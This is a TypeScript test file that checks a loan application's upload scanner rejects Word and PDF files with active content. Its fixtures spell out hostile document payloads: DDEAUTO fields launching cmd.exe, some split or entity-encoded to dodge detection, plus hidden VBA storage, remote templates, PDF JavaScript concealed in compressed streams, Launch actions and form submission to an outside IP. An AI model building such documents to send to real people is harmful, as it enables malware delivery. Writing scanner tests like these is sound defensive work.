import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { submitLoan } from '#shared/contract/loans.ts'
import { openTestApp } from '#tests/api/support/app.ts'
import type { FilePart } from '#tests/api/support/client.ts'
import { compoundFile } from '#tests/api/support/compound-file.ts'
import { CONTENT_TYPES, doc, docx, pdf } from '#tests/api/support/documents.ts'
import { newUser } from '#tests/api/support/traders.ts'

const world = await openTestApp()

async function send(document: FilePart) {
  const body = { amount: '500', purpose: 'A van', duration: 30 } as const
  // A user has one application at a time.
  const customer = await newUser(world)
  const { status, body: response } = await customer.client.send(submitLoan, {
    body,
    files: { documents: [document] },
  })
  return status === 200 ? 'accepted' : (response as { code?: string }).code
}

const storage = compoundFile([{ name: 'VBA', children: [{ name: 'dir' }] }])

const relation = (type: string, target: string) =>
  docx({
    'word/_rels/document.xml.rels':
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  })

const body = (content: string) =>
  docx({ 'word/document.xml': `<w:document>${content}</w:document>` })

const run = (code: string) =>
  '<w:fldChar w:fldCharType="begin"/>' +
  code
    .split('|')
    .map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`)
    .join('') +
  '<w:fldChar w:fldCharType="end"/>'

const NESTED =
  '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/>' +
  '<w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/>' +
  '<w:instrText>"cmd"</w:instrText><w:fldChar w:fldCharType="end"/>'

describe('a Word file with active or external content', () => {
  it.each([
    ['VBA storage under another name', docx({ 'word/media/image1.png': storage })],
    [
      'VBA declared only in the content types',
      docx({
        '[Content_Types].xml': CONTENT_TYPES.replace(
          '</Types>',
          '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
      }),
    ],
    ['a remote template', relation('attachedTemplate', 'http://203.0.113.9/t.dotm')],
    ['a remote picture', relation('image', 'http://203.0.113.9/seen.png')],
    ['a link to a program', relation('hyperlink', 'file:///c:/windows/cmd.exe')],
    ['an OLE object under another name', docx({ 'customXml/item9.dat': compoundFile([]) })],
    ['an embedded archive', docx({ 'word/fonts/a.odttf': 'PK\u0003\u0004' })],
    ['a DDE field', body(run('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))],
    ['a DDE field in pieces', body(run('D|DE|AUTO cmd'))],
    ['a DDE field as a simple field', body('<w:fldSimple w:instr=" DDE cmd "/>')],
    ['a DDE field in entities', body(run('&#68;&#x44;E cmd'))],
    ['a DDE field put together by another field', body(NESTED)],
    ['a field that includes a remote file', body(run('INCLUDEPICTURE "http://203.0.113.9/x"'))],
    [
      'an entity of its own',
      docx({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>' }),
    ],
  ])('a customer cannot give staff a Word file with %s', async (_, file) => {
    expect(await send(file)).toBe('upload.active_content')
  })

  it.each([
    [
      'macros',
      doc('WordDocument', [{ name: 'Macros', children: [{ name: 'VBA', children: [] }] }]),
    ],
    ['macros under another name', doc('WordDocument', [{ name: 'Pictures', children: [] }])],
    [
      'an OLE object',
      doc('WordDocument', [{ name: 'ObjectPool', children: [{ name: '_1', children: [] }] }]),
    ],
    ['a package as a stream', doc('WordDocument', [{ name: '\u0001Ole10Native' }])],
    ['a DDE field', doc('WordDocument', [], '\u0013 DDEAUTO cmd \u0014\u0015')],
  ])('a customer cannot give staff an old Word file with %s', async (_, file) => {
    expect(await send(file)).toBe('upload.active_content')
  })

  it('a customer cannot overload the server with millions of elements in 32 KB', async () => {
    const file = body('<a/>'.repeat(8_000_000))
    expect(file.content.length).toBeLessThan(40_000)
    expect(await send(file)).toBe('upload.active_content')
  })

  it('links to web pages and ordinary fields are accepted', async () => {
    expect(await send(relation('hyperlink', 'https://example.com/terms'))).toBe('accepted')
    expect(await send(body(run(' PAGE ') + run('TOC \\o "1-3"')))).toBe('accepted')
    expect(await send(doc('WordDocument', [{ name: 'ObjectPool', children: [] }]))).toBe('accepted')
  })
})

const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>'

/** An object inside a compressed stream, where a plain text search of the file cannot find it. */
const packed = (dictionary: string, object: string) => {
  const bytes = deflateSync(`7 0 ${object}`).toString('latin1')
  return `6 0 obj<<${dictionary}/N 1/First 4/Length ${bytes.length}>>stream\n${bytes}\nendstream endobj`
}

describe('a PDF with active or embedded content', () => {
  it.each([
    ['JavaScript', `5 0 obj${SCRIPT}endobj`],
    ['JavaScript with an escaped name', '5 0 obj<</S/J#61vaScript/JS(app.alert(1))>>endobj'],
    ['JavaScript in a compressed object', packed('/Type/ObjStm/Filter/FlateDecode', SCRIPT)],
    ['JavaScript in a compressed object without a type', packed('/Filter[/FlateDecode]', SCRIPT)],
    [
      'compressed objects behind a filter that hides them',
      packed('/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]', SCRIPT),
    ],
    [
      'compressed objects behind a predictor',
      packed('/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>', '<<>>'),
    ],
    ['compressed objects behind a comment', packed('/Filter/FlateDecode %>>\n', SCRIPT)],
    ['an action that starts a program', '5 0 obj<</S/Launch/F(cmd.exe)>>endobj'],
    ['an embedded file', '5 0 obj<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>endobj'],
    ['a form that is sent elsewhere', '5 0 obj<</S/SubmitForm/F(http://203.0.113.9)>>endobj'],
    ['a form in XFA', '5 0 obj<</XFA 6 0 R>>endobj'],
    ['a video', '5 0 obj<</Subtype/RichMedia>>endobj'],
  ])('a customer cannot give staff a PDF with %s', async (_, objects) => {
    expect(await send(pdf('statement.pdf', objects))).toBe('upload.active_content')
  })

  it('an encrypted PDF, which cannot be inspected, is refused with the reason', async () => {
    expect(await send(pdf('a.pdf', '5 0 obj<</Encrypt 6 0 R>>endobj'))).toBe('upload.protected')
  })

  it('a customer cannot overload the server with overlapping objects', async () => {
    expect(await send(pdf('a.pdf', '1 0 obj<</A('.repeat(60_000)))).toBe('upload.active_content')
  })

  it('harmless compressed objects are accepted', async () => {
    expect(await send(pdf('a.pdf', packed('/Type/ObjStm/Filter/FlateDecode', '<</A 1>>')))).toBe(
      'accepted',
    )
  })
})
